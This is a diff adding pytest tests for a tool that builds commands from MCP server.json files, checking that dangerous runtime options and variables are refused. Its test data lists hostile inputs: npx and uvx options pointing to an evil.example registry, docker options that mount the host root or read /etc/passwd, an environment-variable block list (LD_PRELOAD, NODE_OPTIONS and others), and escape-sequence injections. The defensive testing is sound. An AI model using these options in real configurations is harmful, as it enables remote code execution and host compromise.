@@ -333,6 +333,184 @@ def test_a_file_does_not_get_a_variable_of_this_machine_because_it_asks_for_it()
     assert "env" not in fields(server(optional), environment={"AWS_SECRET_ACCESS_KEY": "hush"})
 
 
+def positional(*words: str) -> list[dict[str, Any]]:
+    return [{"type": "positional", "value": word} for word in words]
+
+
+def named(name: str, value: str | None = None, **more: Any) -> list[dict[str, Any]]:
+    return [{"type": "named", "name": name, **({} if value is None else {"value": value}), **more}]
+
+
+HARMLESS: list[tuple[str, list[dict[str, Any]]]] = [
+    ("npx", positional("-y")),
+    ("npx", named("--yes")),
+    ("npx", named("-y", "true", format="boolean")),
+    ("npx", positional("-y", "@ada/weather@1.4.0")),
+    ("uvx", named("--python", "3.12")),
+    ("uvx", positional("--python=3.12.4")),
+    ("docker", named("--network", "none")),
+    ("docker", named("--cap-drop", "ALL")),
+    ("docker", named("-v", "{folder}:/data:ro", variables={"folder": {"isRequired": True}})),
+]
+HARMFUL: list[tuple[str, list[dict[str, Any]]]] = [
+    ("npx", named("--registry", "http://evil.example")),
+    ("npx", positional("--registry=http://evil.example")),
+    ("npx", positional("-y", "--registry", "http://evil.example")),
+    ("npx", named("-y", "--registry=http://evil.example")),
+    ("npx", named("--yes", "{a}", variables={"a": {"default": "--registry=http://evil.example"}})),
+    ("npx", named("--node-options", "--import=data:text/javascript,0")),
+    ("npx", named("--package", "http://evil.example/x.tgz")),
+    ("npx", named("--call", format="boolean")),
+    ("npx", positional("-yp", "evil")),
+    ("npx", positional("-c")),
+    ("npx", positional("--")),
+    ("npx", positional("-y\n--registry=http://evil.example")),
+    ("npx", positional("\u2010y")),
+    ("npx", positional("--yes\u200b")),
+    ("npx", positional("evil")),
+    ("npx", [{"type": "positional", "valueHint": "a", "default": "--registry=http://evil.example"}]),
+    ("uvx", named("--from", "git+https://evil.example/x")),
+    ("uvx", named("--python", "/tmp/evil")),
+    ("uvx", named("--python", "{a}", variables={"a": {"default": "/tmp/evil"}})),
+    ("uvx", named("--python", "\uff13.12")),
+    ("uvx", named("--index-url", "http://evil.example")),
+    ("uvx", named("--with", "evil")),
+    ("docker", named("--privileged")),
+    ("docker", named("--privileged", format="boolean")),
+    ("docker", named("-v", "/:/host")),
+    ("docker", positional("-v/:/host")),
+    ("docker", positional("--volume=/:/host")),
+    ("docker", positional("-iv", "/:/host")),
+    ("docker", named("-v", "{a}:/data", variables={"a": {"default": "/"}})),
+    ("docker", named("--mount", "type=bind,src=/,dst=/data")),
+    ("docker", named("--mount", "type=bind,src={a},dst=/data,src=/", variables={"a": {}})),
+    (
+        "docker",
+        named("--mount", "type=bind,src={a},dst={b}", variables={"a": {}, "b": {"default": "/x,src=/"}}),
+    ),
+    (
+        "docker",
+        [
+            *named("-e", "A={a}", variables={"a": {"default": "/"}}),
+            *named("-v", "{a}:/data", variables={"a": {}}),
+        ],
+    ),
+    ("docker", named("-e", "AWS_SECRET_ACCESS_KEY")),
+    ("docker", named("--env-file", "/etc/passwd")),
+    ("docker", named("--network", "host")),
+    ("docker", named("--entrypoint", "sh")),
+    ("docker", positional("exec")),
+]
+PACKAGES = {
+    "npx": {**NPM, "runtimeHint": "npx"},
+    "uvx": {"registryType": "pypi", "identifier": "weather", "version": "1.4.0", "runtimeHint": "uvx"},
+    "docker": {"registryType": "oci", "identifier": "docker.io/ada/weather:1.4.0"},
+}
+
+
+@pytest.fixture
+def docker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "docker").touch(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path))
+
+
+@pytest.mark.usefixtures("docker")
+@pytest.mark.parametrize(("runner", "arguments"), HARMLESS)
+def test_options_that_are_harmless_are_taken(runner: str, arguments: list[dict[str, Any]]):
+    recipe = recipe_from(server({**PACKAGES[runner], "runtimeArguments": arguments}), "server.json")
+    given = {one.name: ("/mine",) for one in recipe.inputs if one.required}
+    made = fields_of(recipe, fill(recipe, FillOptions(given, {})).values)
+    assert made["command"] == {"npx": "toolyard"}.get(runner, runner)
+
+
+@pytest.mark.usefixtures("docker")
+@pytest.mark.parametrize(("runner", "arguments"), HARMFUL)
+def test_any_other_option_of_a_runner_is_refused(runner: str, arguments: list[dict[str, Any]]):
+    with pytest.raises(CommandError, match=f"has an option for {runner} that is not known") as caught:
+        recipe_from(server({**PACKAGES[runner], "runtimeArguments": arguments}), "server.json")
+    assert caught.value.hints[0].startswith("if you trust it, add the server by hand: toolyard add NAME")
+
+
+@pytest.mark.usefixtures("docker")
+@pytest.mark.parametrize(
+    ("package", "hint", "arguments"),
+    [
+        (NPM, "uvx", named("--python", "3.12")),  # of npm would come a package of PyPI
+        (NPM, "docker", named("--network", "none")),
+        (NPM, "docker", named("-v", "{a}:/x", variables={"a": {"isRequired": True}})),
+        (PACKAGES["uvx"], "docker", named("-m", "100m")),
+        (PACKAGES["uvx"], "dnx", named("--yes")),
+    ],
+)
+def test_an_option_of_another_runner_is_refused(package: Any, hint: str, arguments: list[dict[str, Any]]):
+    told = server({**package, "runtimeHint": hint, "runtimeArguments": arguments})
+    with pytest.raises(CommandError, match=f"has an option for {hint} that is not known"):
+        recipe_from(told, "server.json")
+
+
+@pytest.mark.parametrize("name", ["nodejs__wheel", "NodeJS-._wheel", "mcp_proxy", "uv"])
+def test_a_package_that_runs_its_arguments_is_known_however_it_is_spelled(name: str):
+    with pytest.raises(CommandError, match=f"starts '{name}', which runs whatever its arguments name"):
+        recipe_from(server({**PACKAGES["uvx"], "identifier": name}), "server.json")
+
+
+def test_the_option_that_is_refused_is_quoted_and_harmless_to_look_at():
+    arguments = named("--registry", "http://evil.example/\x1b[2J\nhint: all is well")
+    with pytest.raises(CommandError) as caught:
+        recipe_from(server({**NPM, "runtimeArguments": arguments}), "server.json")
+    assert r"'--registry http://evil.example/\\x1b[2J hint: all is well'" in caught.value.message
+
+
+FOREIGN_VARIABLES = """
+    NODE_OPTIONS node_path LD_PRELOAD DYLD_INSERT_LIBRARIES PYTHONSTARTUP PythonPath UV_DEFAULT_INDEX uv_index
+    pip_index_url npm_config_registry NPM_CONFIG_node_options PATH Path HOME https_proxy SSL_CERT_FILE
+    BASH_ENV GIT_SSH_COMMAND JAVA_TOOL_OPTIONS _JAVA_OPTIONS DOTNET_STARTUP_HOOKS DOCKER_HOST XDG_CACHE_HOME
+    TOOLYARD_SERVER_VARIABLES ComSpec PSModulePath ODBCSYSINI ERL_FLAGS tar_options TS_NODE_PROJECT
+"""
+
+
+@pytest.mark.parametrize("name", FOREIGN_VARIABLES.split())
+def test_a_variable_that_is_not_the_packages_own_is_refused(name: str):
+    def told(**item: Any) -> Any:
+        return fields(server({**NPM, "environmentVariables": [{"name": name, **item}]}))
+
+    for item in (
+        {"value": "x"},
+        {"default": "x"},
+        {"isRequired": True},
+        {"value": "{a}", "variables": {"a": {}}},
+    ):
+        with pytest.raises(CommandError, match=f"sets the variable '{name}'"):
+            told(**item)
+    assert "env" not in told(description="only if you want to")
+
+
+def test_variables_that_only_look_like_others_are_the_packages_own():
+    names = [
+        "NODE_ENV",
+        "PYTHONUNBUFFERED",
+        "GITHUB_TOKEN",
+        "GOOGLE_API_KEY",
+        "UVICORN_PORT",
+        "PIPEDRIVE_TOKEN",
+    ]
+    package = {**NPM, "environmentVariables": [{"name": name, "value": "x"} for name in names]}
+    assert list(fields(server(package))["env"]) == names
+
+
+@pytest.mark.usefixtures("docker")
+def test_a_container_gets_no_variable_that_has_no_value_here():
+    package = {
+        **PACKAGES["docker"],
+        "environmentVariables": [{"name": "AWS_SECRET_ACCESS_KEY"}, {"name": "A", "value": "b"}],
+        "runtimeArguments": named("-e", "AWS_SECRET_ACCESS_KEY"),
+    }
+    assert fields(server(package))["args"] == ["run", "-i", "--rm", "-e", "A", "docker.io/ada/weather:1.4.0"]
+    for option in (named("-e", "NODE_OPTIONS=x"), named("--env", "docker_host=tcp://evil.example")):
+        with pytest.raises(CommandError, match="sets the variable"):
+            fields(server({**PACKAGES["docker"], "runtimeArguments": option}))
+
+
 @pytest.mark.parametrize(
     ("data", "said"),
     [
@@ -340,7 +518,20 @@ def test_a_file_does_not_get_a_variable_of_this_machine_because_it_asks_for_it()
         ({"name": 3}, "is not a server.json: it has no 'name'"),
         (HEADER, "has no packages and no remotes"),
         (server({**NPM, "version": "latest"}), "does not say which version"),
-        (server({**NPM, "version": "^1.0.0"}), "has a package that is none"),
+        *(
+            (server({**NPM, "version": version}), "has a package that is none")
+            for version in (
+                "^1.0.0",
+                "1",
+                "1.2.x",
+                "npm:evil@1.0.0",
+                "git+https://evil.example",
+                "file:x",
+                "1.0.0\n",
+            )
+        ),
+        (server({**NPM, "identifier": "evil/repository"}), "has a package that is none"),
+        (server({**NPM, "identifier": "npm", "version": "11.0.0"}), "starts 'npm', which runs whatever"),
         (server({**NPM, "identifier": "--registry=http://evil.example"}), "has a package that is none"),
         (server({**NPM, "identifier": "https://evil.example/x.tgz"}), "has a package that is none"),
         (
@@ -355,7 +546,7 @@ def test_a_file_does_not_get_a_variable_of_this_machine_because_it_asks_for_it()
         (server({**NPM, "registryType": "floppy"}), "no package of server.json can be started"),
         (
             server({**NPM, "runtimeHint": "bun", "runtimeArguments": [{"type": "named", "name": "-x"}]}),
-            "for 'bun'",
+            "an option for bun",
         ),
         (server({**NPM, "environmentVariables": [{"name": "A=B", "value": "x"}]}), "which is no name of one"),
         (server({**NPM, "environmentVariables": [{"value": "x"}]}), "has no 'name'"),
@@ -478,8 +669,84 @@ def test_a_terminal_asks_before_a_variable_is_passed_on(toolyard: Toolyard):
     with toolyard.terminal(*command, WEATHER_KEY="hush") as user:
         user.expect("use your variable WEATHER_KEY? [y/N]: ")
         user.type("y\n")
+        user.expect("It runs with your rights. Add it? [y/N]: ")
+        user.type("y\n")
         assert user.end() == 0, user.seen
     (found,) = load(toolyard.folder / "toolyard.toml", {"WEATHER_KEY": "mine"}).servers
     assert isinstance(found.where, Stdio)
     assert found.where.env == {"WEATHER_KEY": "mine"}
     assert "hush" not in (toolyard.folder / "toolyard.toml").read_text()
+
+
+RUNS = {**NPM, "packageArguments": positional("serve", "a\x1b[2J\nb"), "environmentVariables": [
+    {"name": "LEVEL", "value": "x y"}, {"name": "WEATHER_KEY", "isRequired": True, "isSecret": True}
+]}  # fmt: skip
+
+
+def test_a_terminal_shows_the_whole_command_and_asks_before_anything_is_run_or_written(toolyard: Toolyard):
+    toolyard.write("server.json", json.dumps(server(RUNS)))
+    with toolyard.terminal("add", "--from", "server.json", "--env", "WEATHER_KEY=hush") as user:
+        user.expect("It runs with your rights. Add it? [y/N]: ")
+        user.type("n\n")
+        assert user.end() == 2
+    seen = " ".join(user.seen.split())
+    assert (
+        "'LEVEL=x y' 'WEATHER_KEY=***' toolyard envs run npm:@ada/weather@1.4.0 serve 'a\\x1b[2J\\nb'" in seen
+    )
+    assert "npm:@ada/weather@1.4.0 is installed for it" in seen
+    assert "hush" not in user.raw
+    assert not (toolyard.folder / "toolyard.toml").exists()
+    assert not (toolyard.folder / "home").exists()
+
+
+def test_where_nobody_can_be_asked_a_file_starts_a_program_only_if_told(toolyard: Toolyard):
+    toolyard.write("server.json", json.dumps(server(RUNS)))
+    command = ["add", "--from", "server.json", "--no-check", "--env", "WEATHER_KEY=hush"]
+    refused = toolyard(*command)
+    first, second = refused.err.splitlines()
+    assert (refused.status, second) == (2, "hint: --yes adds it, if you trust it; a terminal asks")
+    assert first.startswith("error: server.json would start a program with your rights: 'LEVEL=x y' ")
+    assert "hush" not in refused.err
+    assert not (toolyard.folder / "toolyard.toml").exists()
+    assert toolyard(*command, "--yes").status == 0
+
+
+def test_a_secret_is_not_left_to_a_variable_that_is_set_for_something_else(toolyard: Toolyard):
+    remote = {**REMOTE, "headers": [{"name": "X-Key", "value": "{AWS_SECRET_ACCESS_KEY}", "variables": {
+        "AWS_SECRET_ACCESS_KEY": {"isRequired": True, "isSecret": True}}}]}  # fmt: skip
+    toolyard.write("server.json", json.dumps(server(remotes=[remote])))
+    command = ["add", "--from", "server.json", "--no-check"]
+    missing = toolyard(*command)
+    assert missing.err.startswith("error: 'weather-mcp' needs AWS_SECRET_ACCESS_KEY")
+    with toolyard.terminal(*command, AWS_SECRET_ACCESS_KEY="hush") as user:
+        user.expect("use your variable AWS_SECRET_ACCESS_KEY? [y/N]: ")
+        user.type("n\n")
+        user.expect("Enter: you will set WEATHER_MCP_AWS_SECRET_ACCESS_KEY): ")
+        user.type("\n")
+        user.expect("Add it? [y/N]: ")
+        user.type("y\n")
+        assert user.end() == 0, user.seen
+    text = (toolyard.folder / "toolyard.toml").read_text()
+    assert 'X-Key = "${WEATHER_MCP_AWS_SECRET_ACCESS_KEY}"' in text
+
+
+def test_what_a_terminal_asks_cannot_rewrite_the_screen(toolyard: Toolyard):
+    hostile = "a\x1b[2Jb\nhint: c"
+    asked = {
+        "type": "positional",
+        "valueHint": hostile,
+        "default": hostile,
+        "choices": [hostile, "d"],
+        "isRequired": True,
+    }
+    toolyard.write("server.json", json.dumps(server({**NPM, "packageArguments": [asked]})))
+    with toolyard.terminal("add", "--from", "server.json", "--no-check") as user:
+        user.expect("]: ")
+        user.type("e\n")
+        user.expect("Error: ")
+        user.type("d\n")
+        user.expect("Add it? [y/N]: ")
+        user.type("y\n")
+        assert user.end() == 0, user.seen
+    assert "\x1b[2J" not in user.raw
+    assert "\nhint: c" not in user.seen
